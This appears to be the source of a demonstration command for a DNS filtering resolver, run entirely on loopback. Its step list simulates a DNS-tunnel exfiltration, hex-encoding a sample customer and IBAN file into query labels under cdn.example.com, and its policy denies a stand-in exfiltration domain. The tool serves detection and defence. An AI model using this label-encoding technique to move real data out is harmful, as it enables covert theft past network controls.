/**
 * `sallyport demo`: the whole without any network. A small authoritative upstream, the resolver with real sockets, and a
 * few clients on loopback addresses; at the end a table of what was asked, answered, denied and recorded.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Command } from 'commander';
import DNS, { type Packet as DnsPacket, Packet } from 'dns2';
import { loadSettings } from '../config/index.ts';
import { createLog } from '../control/index.ts';
import { Service } from '../main.ts';
import { typeName } from '../wire/index.ts';
import { askUdp, compose } from './ask.ts';
import { readMessage } from './read-message.ts';

const TYPE_A = 1;
const TYPE_AAAA = 28;
const TYPE_TXT = 16;

/** Clients of the demonstration; all of 127.0.0.0/8 is this machine. */
const CLIENTS = { laptop: '127.0.0.11', runner: '127.0.0.12', agent: '127.0.0.13' } as const;

interface Step {
  readonly who: keyof typeof CLIENTS;
  readonly what: string;
  readonly name: string;
  readonly type: number;
}

/** The file that leaves in pieces; what each label carries is its bytes in hex. */
const SECRET = 'customer,iban,balance\nA. Example,DE02120300000000202051,4711.00\n'.repeat(2);

function steps(): Step[] {
  const ordinary: Step[] = [
    { who: 'laptop', what: 'ordinary traffic', name: 'www.example.com', type: TYPE_A },
    { who: 'laptop', what: 'ordinary traffic', name: 'www.example.com', type: TYPE_AAAA },
    { who: 'laptop', what: 'again, from the cache', name: 'www.example.com', type: TYPE_A },
    { who: 'runner', what: 'a package registry', name: 'registry.packages.example.org', type: TYPE_A },
    { who: 'runner', what: 'the local zone', name: 'cache.build.internal', type: TYPE_A },
    { who: 'laptop', what: 'a denied destination', name: 'drop.exfil.example.net', type: TYPE_A },
    { who: 'laptop', what: 'a name nobody listed', name: 'www.example.edu', type: TYPE_A },
    { who: 'runner', what: 'a type not allowed', name: 'www.example.com', type: TYPE_TXT },
    { who: 'runner', what: 'an expired exception', name: 'old-vendor.example.org', type: TYPE_A },
  ];
  const hex = Buffer.from(SECRET).toString('hex');
  const pieces = hex.match(/.{1,40}/g) ?? [];
  const tunnel: Step[] = pieces.map((piece, i) => ({
    who: 'agent',
    what: `an encoded tunnel, piece ${i + 1} of ${pieces.length}`,
    name: `${piece}.${i}.cdn.example.com`,
    type: TYPE_A,
  }));
  return [
    ...ordinary,
    ...tunnel,
    {
      who: 'agent',
      what: 'the same client, ordinary again',
      name: 'registry.packages.example.org',
      type: TYPE_A,
    },
  ];
}

const POLICY = `
sets:
  work:
    reason: The demonstration allows it.
    owner: you@example.com
    allow:
      - +.example.com
      - name: '*.packages.example.org'
        reason: Builds install packages.
      - name: old-vendor.example.org
        reason: Until the contract ended.
        expires: 2026-01-31
    deny:
      - name: +.exfil.example.net
        reason: Known destination of stolen data.
groups:
  everyone:
    clients: [127.0.0.0/8]
    sets: [work]
    contact: security@example.com
local:
  - zone: build.internal
    records: ['cache 300 A 192.0.2.9']
`;

export function demoCommand(): Command {
  return new Command('demo')
    .description('a tour without any network: clients, a tunnel, and what is recorded of them')
    .option('--json', 'the rows of the table as JSON')
    .option('--keep', 'keep the directory with the audit, and say where it is')
    .action(demo);
}

interface Row {
  readonly client: string;
  readonly what: string;
  readonly question: string;
  readonly answer: string;
  readonly verdict: string;
  readonly why: string;
  readonly upstreamSaw: boolean;
}

async function demo({ json, keep }: { json?: boolean; keep?: boolean }): Promise<void> {
  const directory = mkdtempSync(join(tmpdir(), 'sallyport-demo-'));
  const seen: string[] = [];
  const upstream = await startUpstream(seen);
  const service = await startService(directory, upstream.port);
  const rows: Row[] = [];
  const { listening } = service.addresses;
  const port = listening.find(({ transport }) => transport === 'udp')?.port ?? 0;
  const audit = join(directory, 'audit');
  for (const step of steps()) {
    const before = seen.length;
    const reply = await askUdp(
      compose(step.name, step.type, true),
      '127.0.0.1',
      port,
      5000,
      CLIENTS[step.who],
    );
    // The response has come, so its entry is there: that is the promise.
    const entry = lastEntry(audit);
    rows.push(rowOf(step, reply, entry, seen.length > before));
  }
  await service.stop('the demonstration is over');
  await upstream.close();
  if (json) console.log(JSON.stringify(rows, null, 2));
  else print(rows, seen);
  if (keep) console.log(`\nThe audit of this run: ${audit}`);
  else rmSync(directory, { recursive: true, force: true });
}

/** Every name under example.com and example.org has an address here; the server remembers what it was asked. */
async function startUpstream(seen: string[]): Promise<{ port: number; close(): Promise<void> }> {
  const server = DNS.createServer({
    udp: { type: 'udp4' },
    handle: (request: DnsPacket, send: (response: DnsPacket) => void) => {
      const response = Packet.createResponseFromRequest(request);
      const question = request.questions[0] as { name: string; type: number } | undefined;
      if (question !== undefined) {
        const name = question.name.toLowerCase();
        if (name !== '') seen.push(name);
        const isAddress = question.type === TYPE_A || question.type === TYPE_AAAA;
        if (isAddress && /(^|\.)example\.(com|org)$/.test(name)) {
          const address = question.type === TYPE_A ? '192.0.2.80' : '2001:db8::80';
          response.answers.push({
            name: question.name,
            type: question.type,
            class: 1,
            ttl: 300,
            address,
          } as never);
        }
      }
      send(response);
    },
  });
  await server.listen({ udp: { port: 0, address: '127.0.0.1' } });
  const { udp } = server.addresses() as { udp?: { port: number } };
  if (udp === undefined) throw new Error('the upstream of the demonstration has no address');
  return { port: udp.port, close: async () => void (await server.close()) };
}

async function startService(directory: string, upstreamPort: number): Promise<Service> {
  const policy = join(directory, 'policy.yaml');
  writeFileSync(policy, POLICY);
  const loaded = loadSettings({
    env: {},
    overrides: {
      'listen.addresses': ['127.0.0.1:0'],
      'http.enabled': false,
      workers: 1,
      policies: [policy],
      'upstreams.default.servers': [`127.0.0.1:${upstreamPort}`],
      'audit.directory': join(directory, 'audit'),
      'detect.stateDirectory': join(directory, 'detect'),
      'log.level': 'silent',
    },
  });
  if (!('settings' in loaded)) throw new Error(loaded.faults.map(({ what }) => what).join('; '));
  const { settings } = loaded;
  const service = new Service({
    settings,
    log: createLog(settings.log),
    lameDuckMs: 0,
    onFatal: (why) => {
      throw new Error(why);
    },
  });
  await service.start();
  return service;
}

interface AuditEntry {
  readonly verdict: string;
  readonly cause?: string;
  readonly reason?: string;
  readonly cached?: boolean;
  readonly evidence?: readonly string[];
}

/** The newest entry of a query in the audit. */
function lastEntry(audit: string): AuditEntry {
  const lines = readdirSync(audit)
    .filter((file) => file.endsWith('.ndjson'))
    .sort()
    .flatMap((file) => readFileSync(join(audit, file), 'utf8').trimEnd().split('\n'));
  const line = lines.findLast((one) => one.includes('"via":'));
  if (line === undefined) throw new Error('an answer came before its entry: please report this');
  return JSON.parse(line) as AuditEntry;
}

function rowOf(step: Step, reply: Uint8Array, entry: AuditEntry, upstreamSaw: boolean): Row {
  const message = readMessage(reply);
  const answer =
    typeof message === 'string'
      ? message
      : (message.answer.at(-1)?.rdata ?? message.rcode.replace('NOERROR', 'NODATA'));
  const cause = entry.cause === undefined ? '' : ` (${entry.cause})`;
  return {
    client: `${step.who} ${CLIENTS[step.who]}`,
    what: step.what,
    question: `${step.name} ${typeName(step.type)}`,
    answer,
    verdict: `${entry.verdict}${cause}${entry.cached ? ', cached' : ''}`,
    why: entry.evidence?.[0] ?? entry.reason ?? '',
    upstreamSaw,
  };
}

const WIDTH_FULL = 136;
/** Below this the table is wider than the terminal: there would be nothing left to read. */
const WIDTH_LEAST = 80;
const WIDTH_OF_WHO = 6;

/** Widths of the columns of a terminal: what is cut first is the client's address, then what is said at length. */
function widthsFor(terminal: number): readonly number[] {
  if (terminal >= WIDTH_FULL) return [18, 34, 34, 16, 24, 5];
  const free = Math.max(terminal, WIDTH_LEAST) - 5 - (WIDTH_OF_WHO + 12 + 17 + 5);
  const what = Math.floor(free * 0.45);
  return [WIDTH_OF_WHO, what, free - what, 12, 17, 5];
}

function print(rows: readonly Row[], seen: readonly string[]): void {
  const cut = (text: string, length: number): string =>
    text.length <= length ? text.padEnd(length) : `${text.slice(0, length - 1)}…`;
  const widths = widthsFor(process.stdout.columns ?? WIDTH_FULL);
  const show = (...cells: readonly string[]): void =>
    console.log(
      cells
        .map((cell, column) => cut(cell, widths[column] ?? 0))
        .join(' ')
        .trimEnd(),
    );
  show('client', 'what', 'asked', 'answered', 'recorded as', 'left?');
  console.log('-'.repeat(widths.reduce((sum, width) => sum + width + 1, -1)));
  for (const { client, what, question, answer, verdict, upstreamSaw } of rows) {
    const who = widths[0] === WIDTH_OF_WHO ? client.split(' ')[0] : client;
    show(who ?? client, what, question, answer, verdict, upstreamSaw ? 'yes' : 'no');
  }
  const tunnel = rows.filter(({ what }) => what.startsWith('an encoded tunnel'));
  const left = tunnel.filter(({ upstreamSaw }) => upstreamSaw).length;
  console.log(
    `\n${rows.length} queries, ${rows.length} audit entries, ${seen.length} questions reached the upstream.`,
  );
  console.log(
    `Of the tunnel's ${tunnel.length} pieces ${left} left; the rest was stopped before it was forwarded:`,
  );
  console.log(`  ${tunnel.find(({ upstreamSaw }) => !upstreamSaw)?.why ?? 'nothing was stopped'}`);
}
